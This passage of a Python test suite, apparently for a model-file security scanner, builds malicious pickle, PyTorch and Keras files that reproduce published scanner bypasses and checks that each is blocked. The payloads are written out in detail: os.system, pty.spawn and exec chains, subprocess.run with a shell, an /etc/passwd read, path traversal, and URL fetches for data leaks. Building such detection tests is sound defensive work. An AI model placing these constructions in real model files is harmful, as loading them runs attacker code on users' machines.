    Bypass(
        "nullifai-7z-compressed-torch",
        NULLIFAI,
        "a PyTorch file compressed with 7z, which scanners skip; its content cannot be analysed",
        _seven_zipped_torch,
        frozenset({"scan.unsupported-format"}),
        Severity.HIGH,
        frozenset({Verdict.INCOMPLETE, Verdict.FAIL}),
    ),
)


@pytest.mark.parametrize("case", NULLIFAI_CASES, ids=lambda c: c.id)
def test_nullifai_model_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


def test_nullifai_files_give_non_zero_exit_codes_from_the_cli(tmp_path: Path) -> None:
    """CLI level: the broken pickle exits 1 (unsafe), the 7z archive exits 2 (not analysed), never 0."""
    broken = FileWith("model.pkl", BROKEN_AFTER_PAYLOAD)(tmp_path)
    folder = tmp_path / "seven"
    folder.mkdir()
    seven = _seven_zipped_torch(folder)
    codes = {}
    for path in (broken, seven):
        done = subprocess.run(
            [sys.executable, "-m", "bastion.cli.main", "scan", str(path)], capture_output=True, text=True, check=False
        )
        codes[path.name] = done.returncode
    assert codes == {"model.pkl": 1, seven.name: 2}, codes


# -- fickling advisories ----------------------------------------------------------------------------

FICKLING = "https://github.com/trailofbits/fickling/security/advisories/"


def _memoised(*parts: bytes) -> bytes:
    return b"".join(p + MEMOIZE for p in parts)


# GHSA-r7v6-mfhq-g3m2: pty.spawn, then its result consumed by BUILD so no variable is left unused.
_PTY_BUILD = (
    PROTO4 + stack_global("pty", "spawn") + short_unicode("id") + TUPLE1 + REDUCE + short_unicode("x") + BUILD + STOP
)

# fickling PR #108: the same import through the OBJ opcode (protocol 1).
_PTY_OBJ = MARK + glob("pty", "spawn") + b"S'id'\n" + OBJ + STOP

# GHSA-565g-hwwr-4pp3: code object from marshal.loads, made a function by types.FunctionType, called.
_MARSHAL_FUNCTION = (
    PROTO4
    + stack_global("types", "FunctionType")
    + stack_global("marshal", "loads")
    + args(b"\xe3not-a-real-code-object")
    + REDUCE
    + EMPTY_DICT
    + TUPLE2
    + REDUCE
    + EMPTY_TUPLE
    + REDUCE
    + STOP
)

# GHSA-5hvc-6wx8-mvv4: pydoc.locate of a dotted string, called, the result hidden in an object's state.
_LOCATE_HIDDEN = (
    glob("pydoc", "locate")
    + b"S'os.system'\n"
    + TUPLE1
    + REDUCE
    + b"p0\n0g0\n"
    + b"S'"
    + SHELL.encode()
    + b"'\n"
    + TUPLE1
    + REDUCE
    + b"p1\n0"
    + glob("builtins", "Exception")
    + EMPTY_TUPLE
    + REDUCE
    + EMPTY_DICT
    + b"S'status'\ng1\n"
    + SETITEM
    + BUILD
    + STOP
)

# GHSA-q5qq-mvfm-j35x: builtins.getattr on importlib.import_module("os"), then the call.
_GETATTR_IMPORT_MODULE = (
    PROTO4
    + stack_global("builtins", "getattr")
    + stack_global("importlib", "import_module")
    + short_unicode("os")
    + TUPLE1
    + REDUCE
    + short_unicode("system")
    + TUPLE2
    + REDUCE
    + short_unicode(SHELL)
    + TUPLE1
    + REDUCE
    + STOP
)

# GHSA-q5qq-mvfm-j35x: code.InteractiveInterpreter().runsource reached with getattr.
_GETATTR_RUNSOURCE = (
    PROTO4
    + stack_global("builtins", "getattr")
    + stack_global("code", "InteractiveInterpreter")
    + EMPTY_TUPLE
    + REDUCE
    + short_unicode("runsource")
    + TUPLE2
    + REDUCE
    + short_unicode(CODE)
    + TUPLE1
    + REDUCE
    + STOP
)

# GHSA-h4rm-mm56-xf63: only builtins are imported (fickling did not show them): __import__ and getattr.
_BUILTINS_ONLY = (
    PROTO4
    + stack_global("builtins", "getattr")
    + stack_global("builtins", "__import__")
    + short_unicode("os")
    + TUPLE1
    + REDUCE
    + short_unicode("system")
    + TUPLE2
    + REDUCE
    + short_unicode(SHELL)
    + TUPLE1
    + REDUCE
    + STOP
)

# GHSA-6ggj-6f2q-f7mx: a subinterpreter created and made to run source, routed through BUILD.
_SUBINTERPRETER = (
    PROTO4
    + stack_global("builtins", "Exception")
    + EMPTY_TUPLE
    + REDUCE
    + EMPTY_DICT
    + short_unicode("result")
    + stack_global("_interpreters", "run_string")
    + stack_global("_interpreters", "create")
    + EMPTY_TUPLE
    + REDUCE
    + short_unicode(CODE)
    + TUPLE2
    + REDUCE
    + SETITEM
    + BUILD
    + STOP
)

# The call's result POPped at once: fickling's AST dropped the call (reported by ModelAudit).
_POPPED_CALL = PROTO4 + stack_global("os", "system") + short_unicode(SHELL) + TUPLE1 + REDUCE + POP + EMPTY_DICT + STOP

FICKLING_CASES: tuple[Bypass, ...] = (
    Bypass(
        "fickling-GHSA-r7v6-mfhq-g3m2-pty-build",
        f"GHSA-r7v6-mfhq-g3m2, {FICKLING}GHSA-r7v6-mfhq-g3m2",
        "pty.spawn whose result feeds BUILD, so no variable is unused",
        FileWith("model.pkl", _PTY_BUILD),
        CALLS,
    ),
    Bypass(
        "fickling-PR-108-pty-obj",
        "fickling PR #108, https://github.com/trailofbits/fickling/pull/108",
        "pty.spawn called by the OBJ opcode",
        FileWith("model.pkl", _PTY_OBJ),
        CALLS,
    ),
    Bypass(
        "fickling-GHSA-565g-hwwr-4pp3-marshal-function",
        f"GHSA-565g-hwwr-4pp3, {FICKLING}GHSA-565g-hwwr-4pp3",
        "marshal.loads a code object, wrap it with types.FunctionType, call it",
        FileWith("model.pkl", _MARSHAL_FUNCTION),
        CALLS,
    ),
    Bypass(
        "fickling-GHSA-wfq2-52f7-7qvj-runpy-run-path",
        f"GHSA-wfq2-52f7-7qvj, {FICKLING}GHSA-wfq2-52f7-7qvj",
        "runpy.run_path runs a file",
        FileWith("model.pkl", call("runpy", "run_path", "/tmp/payload.py")),
        CALLS,
    ),
    Bypass(
        "fickling-GHSA-p523-jq9w-64x9-cprofile-run",
        f"GHSA-p523-jq9w-64x9, {FICKLING}GHSA-p523-jq9w-64x9",
        "cProfile.run execs its string",
        FileWith("model.pkl", call("cProfile", "run", CODE)),
        CALLS,
    ),
    Bypass(
        "fickling-GHSA-5hvc-6wx8-mvv4-pydoc-locate",
        f"GHSA-5hvc-6wx8-mvv4, {FICKLING}GHSA-5hvc-6wx8-mvv4",
        "pydoc.locate resolves a dotted string to a function; the result is hidden in BUILD state",
        FileWith("model.pkl", _LOCATE_HIDDEN),
        CALLS,
    ),
    Bypass(
        "fickling-GHSA-q5qq-mvfm-j35x-import-module",
        f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
        "getattr(importlib.import_module('os'), 'system')",
        FileWith("model.pkl", _GETATTR_IMPORT_MODULE),
        CALLS,
    ),
    Bypass(
        "fickling-GHSA-q5qq-mvfm-j35x-runsource",
        f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
        "getattr(code.InteractiveInterpreter(), 'runsource')",
        FileWith("model.pkl", _GETATTR_RUNSOURCE),
        CALLS,
    ),
    Bypass(
        "fickling-GHSA-q5qq-mvfm-j35x-spawnv-passfds",
        f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
        "multiprocessing.util.spawnv_passfds runs a program",
        FileWith(
            "model.pkl", call("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [b"/bin/sh", b"-c", b"id"], ())
        ),
        CALLS,
    ),
    Bypass(
        "fickling-GHSA-h4rm-mm56-xf63-builtins-only",
        f"GHSA-h4rm-mm56-xf63 (CVE-2026-22612), {FICKLING}GHSA-h4rm-mm56-xf63",
        "only builtins are imported: getattr(__import__('os'), 'system')",
        FileWith("model.pkl", _BUILTINS_ONLY),
        CALLS,
    ),
    Bypass(
        "fickling-GHSA-6ggj-6f2q-f7mx-subinterpreter",
        f"GHSA-6ggj-6f2q-f7mx, {FICKLING}GHSA-6ggj-6f2q-f7mx",
        "_interpreters.create/run_string runs source in a subinterpreter, result routed through BUILD",
        FileWith("model.pkl", _SUBINTERPRETER),
        CALLS,
    ),
    Bypass(
        "fickling-modelaudit-popped-call",
        "ModelAudit's disclosures against fickling (CVE-2026-22609, GHSA-mxhj-88fx-4pcv, GHSA-mhc9-48gj-9gp3: "
        "'calls vanish from the AST if you POP the result'), https://github.com/promptfoo/promptfoo/pull/7961",
        "os.system's result is POPped, so the call left no trace in fickling's AST",
        FileWith("model.pkl", _POPPED_CALL),
        DANGEROUS,
        Severity.CRITICAL,
    ),
)


@pytest.mark.parametrize("case", FICKLING_CASES, ids=lambda c: c.id)
def test_fickling_advisory_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# -- ModelScan issues and JFrog's Hugging Face findings ---------------------------------------------

MODELSCAN_338 = (
    "ModelScan issue #338 'Multiple False Negative Issues', https://github.com/protectai/modelscan/issues/338"
)

# Every GLOBAL names builtins; the dotted names walk to object.__subclasses__ and a gadget's globals.
_INTROSPECTION_CHAIN = (
    PROTO4  # dotted GLOBAL names resolve only from protocol 4 on
    + glob("builtins", "print.__class__.__base__.__subclasses__")
    + EMPTY_TUPLE
    + REDUCE
    + b"p0\n0"
    + glob("builtins", "getattr")
    + b"g0\nS'__getitem__'\n"
    + TUPLE2
    + REDUCE
    + b"I137\n"
    + TUPLE1
    + REDUCE
    + STOP
)

# transformers' getattribute_from_module(AutoTokenizer, "from_pretrained")("attacker/repo").
_INDIRECT_MODEL_LOADING = (
    PROTO4
    + stack_global("transformers.models.auto.auto_factory", "getattribute_from_module")
    + stack_global("transformers.models.auto.tokenization_auto", "AutoTokenizer")
    + short_unicode("from_pretrained")
    + TUPLE2
    + REDUCE
    + short_unicode("attacker/reused-model")
    + TUPLE1
    + REDUCE
    + STOP
)

# ModelScan issue #331: importlib.import_module("builtins"), then getattr(str, "join") builds "os".
_COMPUTED_NAME = (
    PROTO4
    + _memoised(stack_global("importlib", "import_module"))  # memo 0
    + short_unicode("builtins")
    + TUPLE1
    + REDUCE
    + MEMOIZE  # memo 1: the builtins module
    + _memoised(stack_global("builtins", "getattr"))  # memo 2
    + POP
    + POP
    + binget(0)
    + binget(2)
    + binget(2)
    + binget(1)
    + short_unicode("str")
    + TUPLE2
    + REDUCE  # str
    + short_unicode("join")
    + TUPLE2
    + REDUCE  # str.join
    + short_unicode("")
    + EMPTY_LIST
    + MARK
    + short_unicode("o")
    + short_unicode("s")
    + APPENDS
    + TUPLE2
    + REDUCE  # "os"
    + TUPLE1
    + REDUCE  # import_module("os")
    + MEMOIZE  # memo 3
    + POP
    + binget(2)
    + binget(3)
    + short_unicode("system")
    + TUPLE2
    + REDUCE
    + short_unicode(SHELL)
    + TUPLE1
    + REDUCE
    + STOP
)


class _ExecCall:
    """Pickles as `builtins.exec(source)`, as the 2024 Hugging Face backdoors did."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (CODE,))


def _torch_exec_backdoor(folder: Path) -> Path:
    import torch  # noqa: PLC0415

    path = folder / "pytorch_model.bin"
    torch.save({"weight": torch.ones(2), "_": _ExecCall()}, path)
    return path


# Sleepy Pickle: the payload patches the model's code at load instead of running a shell.
_SLEEPY_PICKLE = (
    PROTO4
    + stack_global("builtins", "setattr")
    + stack_global("torch.nn.modules.linear", "Linear")
    + short_unicode("forward")
    + stack_global("builtins", "eval")
    + short_unicode("lambda self, x: x")
    + TUPLE1
    + REDUCE
    + b"\x87"  # TUPLE3
    + REDUCE
    + POP
    + EMPTY_DICT
    + STOP
)

# dill pickles functions as _create_code(...) then _create_function(code, globals, ...): code, not data.
_DILL_FUNCTION = (
    PROTO4
    + stack_global("dill._dill", "_create_function")
    + MARK
    + stack_global("dill._dill", "_create_code")
    + args(0, 0, 0, 0, 1, 67, b"\x97\x00d\x00S\x00", (None,), (), (), "<payload>", "f", "f", 1, b"", b"", (), ())
    + REDUCE
    + EMPTY_DICT
    + short_unicode("f")
    + NONE
    + NONE
    + b"t"  # TUPLE from MARK: (code, globals, name, defaults, closure)
    + REDUCE
    + EMPTY_TUPLE
    + REDUCE  # and the rebuilt function is called
    + STOP
)

# cloudpickle's code-object route: _builtin_type("CodeType") returns types.CodeType, then called.
_CLOUDPICKLE_CODETYPE = (
    PROTO4
    + stack_global("cloudpickle.cloudpickle", "_builtin_type")
    + short_unicode("CodeType")
    + TUPLE1
    + REDUCE
    + args(0, 0, 0, 0, 1, 67, b"\x97\x00d\x00S\x00", (None,), (), (), "<payload>", "f", "f", 1, b"", b"", (), ())
    + REDUCE
    + STOP
)

MODELSCAN_CASES: tuple[Bypass, ...] = (
    Bypass(
        "modelscan-28-dill-function",
        "ModelScan issue #28 'Malicious code is undetected for dill based models', "
        "https://github.com/protectai/modelscan/issues/28",
        "dill rebuilds a function from a code object at load",
        FileWith("model.pkl", _DILL_FUNCTION),
        CALLS,
    ),
    Bypass(
        "picklescan-corpus-cloudpickle-codetype",
        PICKLESCAN_CORPUS,
        "cloudpickle's _builtin_type('CodeType') builds a code object",
        FileWith("model.pkl", _CLOUDPICKLE_CODETYPE),
        CALLS,
    ),
    Bypass(
        "trailofbits-sleepy-pickle-monkeypatch",
        "Trail of Bits, 'Exploiting ML models with pickle file attacks: Part 1' (Sleepy Pickle), "
        "https://blog.trailofbits.com/2024/06/11/exploiting-ml-models-with-pickle-file-attacks-part-1/",
        "setattr replaces torch.nn.Linear.forward with eval'd code: the model, not the host, is compromised",
        FileWith("model.pkl", _SLEEPY_PICKLE),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "modelscan-338-introspection-chain",
        MODELSCAN_338,
        "only builtins, with dotted names walking to object.__subclasses__()",
        FileWith("model.pkl", _INTROSPECTION_CHAIN),
        frozenset({*CALLS, "pickle.malformed-global"}),
    ),
    Bypass(
        "modelscan-338-indirect-model-loading",
        MODELSCAN_338,
        "transformers helpers fetch and load another model from the Hub",
        FileWith("model.pkl", _INDIRECT_MODEL_LOADING),
        CALLS,
    ),
    Bypass(
        "modelscan-338-mlflow-run-entry-point",
        MODELSCAN_338,
        "mlflow's local backend runs a shell command",
        FileWith("model.pkl", call("mlflow.projects.backend.local", "_run_entry_point", SHELL, ".", "", "")),
        CALLS,
    ),
    Bypass(
        "modelscan-338-pandas-read-csv-exfiltration",
        MODELSCAN_338,
        "pandas.read_csv of a URL leaks data",
        FileWith("model.pkl", call("pandas.io.parsers.readers", "read_csv", "https://example.invalid/?leak=1")),
        CALLS,
    ),
    Bypass(
        "modelscan-331-computed-module-name",
        "ModelScan issue #331 '[BUG] Security Vulnerability', https://github.com/protectai/modelscan/issues/331",
        "import_module('builtins') and str.join build names at load time",
        FileWith("model.pkl", _COMPUTED_NAME),
        frozenset({*CALLS, "pickle.computed-global"}),
    ),
    Bypass(
        "jfrog-2024-exec-backdoor-in-torch-bin",
        "JFrog, 'Data Scientists Targeted by Malicious Hugging Face ML Models with Silent Backdoor', "
        "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/",
        "builtins.exec of Python source inside a real torch.save pytorch_model.bin",
        _torch_exec_backdoor,
        DANGEROUS,
        Severity.CRITICAL,
    ),
)


@pytest.mark.parametrize("case", MODELSCAN_CASES, ids=lambda c: c.id)
def test_modelscan_and_hub_evasion_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# -- PyTorch: bypasses of torch.load(weights_only=True) -------------------------------------------


def _torchscript_setstate_canary(folder: Path) -> Path:
    """A real torch.jit.save archive whose TorchScript __setstate__ (run by torch.jit.load) calls a file op."""
    import warnings  # noqa: PLC0415

    import torch  # noqa: PLC0415

    class Canary(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.w = torch.ones(1)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + self.w

        @torch.jit.export
        def __getstate__(self) -> tuple[torch.Tensor, bool]:
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
            # Maps (creating it) a marker file when loaded; this test never loads it.
            self.w = torch.from_file("/tmp/bastion-bypass-canary", True, 1)
            self.training = state[1]

    path = folder / "pytorch_model.pt"
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", r"`torch\.jit\.\w+` is deprecated", DeprecationWarning)
        torch.jit.save(torch.jit.script(Canary()), str(path))
    return path


def _torch_data_pkl_edited(edit: Callable[[bytes], bytes], name: str) -> Callable[[Path], Path]:
    """A real torch.save of {"w": a 2-element tensor} with its data.pkl edited as described."""

    def build(folder: Path) -> Path:
        import torch  # noqa: PLC0415

        buffer = io.BytesIO()
        torch.save({"w": torch.ones(2)}, buffer)
        source = buffer.getvalue()
        with zipfile.ZipFile(io.BytesIO(source)) as archive:
            (member,) = [n for n in archive.namelist() if n.endswith("/data.pkl")]
            original = archive.read(member)
        edited = edit(original)
        assert edited != original, "the edit must change data.pkl"
        path = folder / name
        path.write_bytes(zips.with_member_replaced(source, "data.pkl", edited))
        return path

    return build


def _setitem_on_tensor(data: bytes) -> bytes:
    # After the tensor's REDUCE (and its memo PUT), SETITEM tensor[0] = 7 before it joins the dict.
    head, sep, tail = data.rpartition(b"s.")
    return head + b"K\x00K\x07s" + sep + tail


def _storage_larger_than_data(data: bytes) -> bytes:
    # The persistent id's element count (2) becomes 2**20; data/0 still holds 8 bytes.
    return data.replace(b"X\x03\x00\x00\x00cpuq\x06K\x02t", b"X\x03\x00\x00\x00cpuq\x06J\x00\x00\x10\x00t", 1)


WEIGHTS_ONLY_2026 = (
    "CVE-2026-24747 (PyTorch < 2.10, weights_only unpickler), "
    "https://github.com/pytorch/pytorch/security/advisories (reported by Ji'an Zhou); "
    "https://www.sentinelone.com/vulnerability-database/cve-2026-24747"
)
LOADER_ATTACK = frozenset({"pickle.*", "pytorch.*", "torch.*", "archive.*", "scan.incomplete"})
BLOCKED = frozenset({Verdict.FAIL, Verdict.INCOMPLETE})

TORCH_CASES: tuple[Bypass, ...] = (
    Bypass(
        "pytorch-CVE-2026-24747-setitem-on-tensor",
        WEIGHTS_ONLY_2026,
        "SETITEM applied to a rebuilt tensor, not a dict: heap corruption in the weights_only unpickler",
        _torch_data_pkl_edited(_setitem_on_tensor, "setitem.pt"),
        LOADER_ATTACK,
        Severity.HIGH,
        BLOCKED,
    ),
    Bypass(
        "pytorch-CVE-2026-24747-storage-size-mismatch",
        WEIGHTS_ONLY_2026,
        "a storage declared with 2**20 elements backed by 8 bytes of data",
        _torch_data_pkl_edited(_storage_larger_than_data, "storage.pt"),
        LOADER_ATTACK,
        Severity.HIGH,
        BLOCKED,
    ),
    Bypass(
        "pytorch-CVE-2025-32434-torchscript-setstate",
        "CVE-2025-32434 (GHSA-53q9-r3pm-6pq6); Jian Zhou and Lishuo Song, 'Safe Harbor or Hostile Waters: Unveiling "
        "the Hidden Perils of the TorchScript Engine in PyTorch' (Black Hat USA 2025), "
        "https://github.com/pytorch/pytorch/security/advisories/GHSA-53q9-r3pm-6pq6",
        "torch.load(weights_only=True) hands a TorchScript archive to torch.jit.load, whose __setstate__ code runs "
        "file operations on load",
        _torchscript_setstate_canary,
        frozenset({"torchscript.*", "pytorch.*", "torch.*"}),
    ),
)


# importlib.import_module("os") -> builtins.vars -> operator.getitem(..., "system") -> call.
_VARS_GETITEM_CHAIN = (
    PROTO4
    + stack_global("operator", "getitem")
    + stack_global("builtins", "vars")
    + stack_global("importlib", "import_module")
    + short_unicode("os")
    + TUPLE1
    + REDUCE
    + TUPLE1
    + REDUCE
    + short_unicode("system")
    + TUPLE2
    + REDUCE
    + short_unicode(SHELL)
    + TUPLE1
    + REDUCE
    + STOP
)

_PROTOCOL_0_SYSTEM = pickle.dumps(SystemCall(SHELL), protocol=0)


def _zip_members(name: str, members: dict[str, bytes]) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return builders.zip_with(folder, name, members, zipfile.ZIP_STORED)

    return build


def _legacy_tar(folder: Path) -> Path:
    # torch's oldest format: a tar of 'storages' and 'tensors' (counts, here 0) and 'pickle'.
    members = {
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": NESTED_OS_SYSTEM,
    }
    return builders.tar_with(folder, "legacy_tar_payload.pt", members)


TORCH_HUNTR_CASES: tuple[Bypass, ...] = (
    Bypass(
        "pytorch-huntr-int-base0-prefix",
        f"{HUNTR} 'PyTorch .pt ZIP archive with an INT-opcode desync in data.pkl', "
        "https://huggingface.co/TESTforge42/scanner-bypass-ptzip-int-desync",
        "data.pkl starts with 'I0x10': pickletools parses base 10 and aborts, CPython parses base 0 and goes on",
        _torch_with_data_pkl(b"I0x10\n" + pickle.dumps({"hook": SystemCall(SHELL)}, protocol=2)),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "pytorch-huntr-zip-member-case",
        f"{HUNTR} 'picklescan ZIP case-sensitivity desync', https://huggingface.co/pauliquib/picklescan-zip-case-desync-poc",
        "the object pickle is poc/DATA.PKL: PyTorch's reader finds it, scanners looking for data.pkl skip it",
        _zip_members(
            "poc_model.pt", {"poc/DATA.PKL": _PROTOCOL_0_SYSTEM, "poc/version": b"3\n", "poc/byteorder": b"little"}
        ),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "pytorch-huntr-legacy-later-pickle",
        f"{HUNTR} 'ModelScan bypass - legacy (non-zip) PyTorch .pt, payload behind the magic-number pickle', "
        "https://huggingface.co/liamramsey/modelscan-legacy-pt-bypass-poc",
        "legacy torch.save: concatenated pickles, the payload in the fourth; scanners read only the first",
        builders.torch_legacy_malicious,
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "pytorch-huntr-legacy-tar",
        f"{HUNTR} 'PyTorch legacy tar scanner bypass', https://huggingface.co/LUOYE-LLM/pytorch-legacy-tar-scanner-bypass-poc",
        "the pre-1.0 tar format (storages, tensors, pickle), which torch.load still tries first",
        _legacy_tar,
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "pytorch-huntr-vars-getitem-chain",
        f"{HUNTR} 'PyTorch Archive ACE Scanner Bypass', https://huggingface.co/mhrisham/pytorch-bypass-poc",
        "import_module -> vars -> operator.getitem reaches os.system with no blocked global named",
        _torch_with_data_pkl(_VARS_GETITEM_CHAIN),
        CALLS,
    ),
    Bypass(
        "pytorch-huntr-torch-package",
        f"{HUNTR} 'PyTorch Package (.ptpkg) ModelScan Bypass', https://huggingface.co/datasets/xiaoyaoes/pytorch-package-bypass-poc",
        "a torch.package archive (.ptpkg) whose pickled resource PackageImporter.load_pickle unpickles",
        _zip_members(
            "malicious.ptpkg",
            {
                "malicious/.data/version": b"6\n",
                "malicious/.data/extern_modules": b"",
                "malicious/pkg/model.pkl": NESTED_OS_SYSTEM,
            },
        ),
        DANGEROUS,
        Severity.CRITICAL,
    ),
)


@pytest.mark.parametrize("case", TORCH_HUNTR_CASES, ids=lambda c: c.id)
def test_pytorch_scanner_bypass_poc_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


@pytest.mark.parametrize("case", TORCH_CASES, ids=lambda c: c.id)
def test_pytorch_loader_bypass_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


HUNTR_KERAS = HUNTR


# -- Keras: safe_mode bypasses driven by config.json ------------------------------------------------


def _keras_layer(module: str, class_name: str, config: dict[str, object], **extra: object) -> dict[str, object]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **extra}


def _keras(layers: list[dict[str, object]], name: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return builders.keras3_archive(folder, layers, name)

    return build


def _keras3_dense_named(name: str) -> dict[str, object]:
    return _keras_layer("keras.layers", "Dense", {"name": name, "units": 2, "activation": "linear", "use_bias": True})


def _function_ref(module: str, function: str) -> dict[str, object]:
    return {"module": module, "class_name": "function", "config": function, "registered_name": "function"}


def _torch_module_wrapper(folder: Path) -> Path:
    import torch  # noqa: PLC0415

    buffer = io.BytesIO()
    torch.save({"hook": SystemCall(SHELL)}, buffer)
    config = {"name": "torch_module_wrapper", "trainable": True, "module": base64.b64encode(buffer.getvalue()).decode()}
    return builders.keras3_archive(
        folder, [_keras_layer("keras.layers", "TorchModuleWrapper", config)], "torch_wrapper.keras"
    )


def _keras_full_config(config: dict[str, object], name: str) -> Callable[[Path], Path]:
    """A .keras archive with exactly this config.json (the weights file as Keras 3 writes it)."""

    def build(folder: Path) -> Path:
        path = builders.keras3_archive(folder, [], name)
        source = path.read_bytes()
        path.write_bytes(zips.with_member_replaced(source, "config.json", json.dumps(config).encode()))
        return path

    return build


def _lambda_layer(name: str, function: dict[str, object]) -> dict[str, object]:
    return _keras_layer("keras.layers", "Lambda", {"name": name, "function": function, "arguments": {}})


_LAMBDA_BYTECODE = {"class_name": "__lambda__", "config": {"code": "4wAAAAA=", "defaults": None, "closure": None}}


def _sequential(name: str, layers: list[dict[str, object]]) -> dict[str, object]:
    return _keras_layer("keras", "Sequential", {"name": name, "trainable": True, "layers": layers})


def _torch_pickle_b64() -> str:
    import torch  # noqa: PLC0415

    buffer = io.BytesIO()
    torch.save({"hook": SystemCall(SHELL)}, buffer)
    return base64.b64encode(buffer.getvalue()).decode()


def _h5_model_config(layers: list[dict[str, object]], name: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}
        return builders.keras_h5(folder, json.dumps(config), name)

    return build


def _h5_torch_module_wrapper(folder: Path) -> Path:
    layer = {"class_name": "TorchModuleWrapper", "config": {"name": "wrap", "module": _torch_pickle_b64()}}
    return _h5_model_config([layer], "torch_wrapper.h5")(folder)


KERAS_CASES: tuple[Bypass, ...] = (
    Bypass(
        "keras-CVE-2024-3660-lambda-bytecode",
        "CVE-2024-3660, https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
        "marshalled Python bytecode in a Lambda layer of a .keras file",
        builders.keras3_lambda,
        frozenset({"keras.lambda-layer"}),
    ),
    Bypass(
        "keras-CVE-2025-1550-arbitrary-module",
        "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp), https://github.com/keras-team/keras/security/advisories/GHSA-48g7-3x6r-xfhp",
        "config.json names module 'subprocess', class_name 'run': Keras imports and calls it despite safe_mode",
        _keras(
            [
                _keras_layer(
                    "subprocess", "run", {"name": "run"}, inbound_nodes=[{"args": [["sh", "-c", SHELL]], "kwargs": {}}]
                )
            ],
            "module.keras",
        ),
        KERAS,
    ),
    Bypass(
        "keras-CVE-2025-8747-get-file",
        "CVE-2025-8747 (GHSA-c9rc-mg46-23w3); JFrog, 'Is TensorFlow Keras Safe Mode Actually Safe?', "
        "https://jfrog.com/blog/keras-safe_mode-bypass-vulnerability",
        "a Lambda whose function is keras.utils.get_file, an allowed module, downloading over a local file",
        _keras(
            [
                _keras_layer(
                    "keras.layers",
                    "Lambda",
                    {
                        "name": "fetch",
                        "function": _function_ref("keras.utils", "get_file"),
                        "arguments": {
                            "origin": "https://example.invalid/payload",
                            "cache_dir": "/tmp",
                            "cache_subdir": "",
                        },
                    },
                )
            ],
            "get_file.keras",
        ),
        KERAS,
    ),
    Bypass(
        "keras-CVE-2025-9906-load-model-unsafe",
        "CVE-2025-9906, https://github.com/io-no/CVE-Reports/issues/5",
        "a Lambda calling keras.models.load_model(other file, safe_mode=False)",
        _keras(
            [
                _keras_layer(
                    "keras.layers",
                    "Lambda",
                    {
                        "name": "unsafe_deserialization",
                        "function": _function_ref("keras.models", "load_model"),
                        "arguments": {"safe_mode": False},
                    },
                    inbound_nodes=[{"args": [], "kwargs": {"inputs": "/tmp/other/model.keras"}}],
                )
            ],
            "load_model.keras",
        ),
        KERAS,
    ),
    Bypass(
        "keras-CVE-2025-9905-hdf5-lambda",
        "CVE-2025-9905, https://github.com/io-no/CVE-Reports/issues/7",
        "safe_mode is ignored for HDF5: a Lambda in an .h5 model config",
        builders.keras_h5_lambda,
        frozenset({"keras.lambda-layer"}),
    ),
    Bypass(
        "keras-CVE-2025-49655-torch-module-wrapper",
        "CVE-2025-49655 (keras 3.11.0-3.11.2; detected by ModelAudit PR #600), "
        "https://github.com/promptfoo/modelaudit/pull/600",
        "TorchModuleWrapper's config carries a base64 torch.save pickle that from_config torch.loads",
        _torch_module_wrapper,
        frozenset({*KERAS, *DANGEROUS}),
    ),
    Bypass(
        "keras-CVE-2025-12058-stringlookup-vocabulary-file",
        "CVE-2025-12058 (GHSA-qg93-c7p6-gg7f), https://github.com/keras-team/keras/security/advisories/GHSA-qg93-c7p6-gg7f",
        "StringLookup's vocabulary is a path: loading reads a local file (or fetches a URL) despite safe_mode",
        _keras(
            [
                _keras_layer(
                    "keras.layers",
                    "StringLookup",
                    {
                        "name": "lookup",
                        "vocabulary": "/etc/passwd",
                        "num_oov_indices": 1,
                        "output_mode": "int",
                    },
                )
            ],
            "lookup.keras",
        ),
        frozenset({*KERAS, "keras.*"}),
    ),
    Bypass(
        "keras-CVE-2026-12479-layer-name-traversal",
        "CVE-2026-12479, https://aithreatalert.com/cve/CVE-2026-12479",
        "a layer name with '../' makes the saving store write outside its temporary folder",
        _keras([_keras3_dense_named("../../../../tmp/bastion-bypass-canary")], "traversal.keras"),
        frozenset({*KERAS, "keras.*", "archive.path-traversal"}),
    ),
    Bypass(
        "keras-CVE-2026-1462-tfsmlayer",
        "CVE-2026-1462, https://justappsec.com/news/2026-04-keras-safe-mode-bypass",
        "TFSMLayer loads an attacker-chosen external SavedModel named in config.json",
        _keras(
            [
                _keras_layer(
                    "keras.layers",
                    "TFSMLayer",
                    {
                        "name": "tfsm",
                        "filepath": "/tmp/attacker_savedmodel",
                        "call_endpoint": "serve",
                        "trainable": False,
                    },
                )
            ],
            "tfsm.keras",
        ),
        KERAS,
    ),
)


KERAS_HUNTR_CASES: tuple[Bypass, ...] = (
    Bypass(
        "keras-huntr-h5-torch-module-wrapper",
